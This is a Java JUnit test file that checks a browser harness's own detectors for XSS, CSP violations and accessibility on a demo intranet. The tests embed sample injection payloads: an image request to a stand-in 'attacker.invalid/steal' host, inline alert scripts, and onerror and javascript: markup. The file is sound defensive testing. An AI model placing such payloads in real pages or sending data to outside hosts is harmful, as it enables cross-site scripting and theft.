package org.digitalbranch.browser;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The browser tests' own instruments, shown to notice what they are there to notice: otherwise a
 * green XSS or accessibility test could mean only that nothing was looking.
 */
class TheBrowserHarnessTest {

  @RegisterExtension static final DemoInBrowser demo = new DemoInBrowser();

  /** A page outside the intranet (no CSP), so its scripts run as an injected payload would. */
  private static void showLoosePage(String html) {
    demo.driver()
        .get(
            "data:text/html;charset=utf-8,"
                + URLEncoder.encode(html, StandardCharsets.UTF_8).replace("+", "%20"));
    demo.waitForPage();
  }

  @Test
  void seleniumManagerNeverRanBecauseBothProgramsAreNamed() {
    assertThat(demo.chromium().discoveryLog())
        .anyMatch(line -> line.contains("Skipping Selenium Manager"))
        .noneMatch(line -> line.startsWith("org.openqa.selenium.manager"));
  }

  @Test
  void theHookRecordsDialogsAndConsoleCallsMadeByAPage() {
    showLoosePage(
        "<title>t</title><script>alert('one'); console.log('two'); confirm('three');</script>");

    assertThat(demo.hook().report().calls())
        .containsExactly("alert(one)", "console.log(two)", "confirm(three)");
  }

  @Test
  void theHookRecordsARequestToAnotherOrigin() {
    showLoosePage("<title>t</title><img alt='' src='http://attacker.invalid/steal?c=1'>");

    assertThat(demo.hook().report().foreignRequests())
        .contains("http://attacker.invalid/steal?c=1");
  }

  @Test
  void theHookRecordsWhatTheIntranetsPolicyBlocked() {
    demo.open("/login");
    ((org.openqa.selenium.JavascriptExecutor) demo.driver())
        .executeScript(
            "var s = document.createElement('script'); s.textContent = 'alert(1)';"
                + " document.body.appendChild(s);");

    PageHook.Report report = demo.hook().report();
    assertThat(report.violations()).isNotEmpty();
    assertThat(report.calls()).isEmpty();
  }

  @Test
  void theHookFindsMarkupThatAPayloadWouldHaveMade() {
    showLoosePage(
        "<title>t</title><main><img alt='' src='data:,' onerror='1'>"
            + "<a href='javascript:void(0)'>x</a><input value='javascript:fine'></main>");

    assertThat(demo.hook().injectedMarkup())
        .containsExactly("IMG onerror=1", "A href=javascript:void(0)");
  }

  @Test
  void axeFailsAPageWithAnImageWithoutAltText() {
    showLoosePage("<html lang='en'><title>t</title><main><img src='data:,'></main></html>");

    assertThat(Axe.violationsOn(demo.driver()))
        .anyMatch(v -> v.rule().equals("image-alt") && v.impact().equals("critical"));
    assertThatThrownBy(() -> Axe.assertNoSeriousViolations(demo.driver(), "a bad page"))
        .hasMessageContaining("critical image-alt")
        .hasMessageContaining("img");
  }
}
